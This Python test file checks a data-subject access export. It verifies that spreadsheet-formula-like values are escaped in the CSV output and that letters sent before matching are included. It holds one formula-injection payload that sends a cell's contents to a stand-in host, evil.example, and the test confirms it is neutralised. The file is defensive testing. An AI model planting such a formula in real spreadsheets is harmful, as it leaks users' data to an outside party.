"""The access export (issue 13): names that look like spreadsheet formulas arrive as text, and
letters written before the request was matched to the person are in it."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pytest
import pyzipper

from konnektus.db.database import Database
from konnektus.domain.csv_cells import safe_cell
from konnektus.domain.permissions import Role
from konnektus.services import export as export_service
from konnektus.services import requests as desk
from tests.helpers import demo_member

NOW = datetime(2026, 11, 26, 9, 0)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 12345678", "'+31 6 12345678"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Jan", "Jan"),
        (-2, -2),
        (None, None),
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(
    value: object, expected: object
) -> None:
    assert safe_cell(value) == expected


def test_the_export_neutralises_formulas_and_holds_the_letters_from_before_the_match(
    demo_db: Database,
) -> None:
    dpo = demo_member(demo_db, Role.DPO)
    person_id = int(demo_db.query("SELECT min(id) FROM person WHERE erased_at IS NULL")[0][0])
    with demo_db.transaction() as cur:
        cur.execute("UPDATE person SET family_name = ? WHERE id = ?", [FORMULA, person_id])
    request_id = desk.log_request(
        demo_db,
        dpo,
        request_type="access",
        channel="email",
        received_at=datetime(2026, 11, 2, 9),
        requester_name="Onbekend",
        requester_email="verzoeker@example.org",
        free_text=None,
        person_id=None,
        now=NOW,
    )
    desk.change_status(
        demo_db, dpo, request_id, seen_status="received", target="in_progress", now=NOW
    )
    desk.change_status(
        demo_db,
        dpo,
        request_id,
        seen_status="in_progress",
        target="extended",
        reason="meerdere systemen",
        now=NOW,
    )
    early = demo_db.query("SELECT id FROM letter WHERE request_id = ?", [request_id])[0][0]
    desk.match_person(
        demo_db, dpo, request_id, seen_status="extended", person_id=person_id, now=NOW
    )
    exported = export_service.export_for_request(demo_db, dpo, request_id, now=NOW)
    assert exported.password is not None
    archive = pyzipper.AESZipFile(io.BytesIO(exported.content))
    archive.setpassword(exported.password.encode())
    document = json.loads(archive.read("data.json"))
    assert early in [row["id"] for row in document["tables"]["letter"]]
    rows = list(csv.DictReader(io.StringIO(archive.read("csv/person.csv").decode())))
    assert rows[0]["family_name"] == "'" + FORMULA
    assert document["tables"]["person"][0]["family_name"] == FORMULA, "JSON keeps the value"
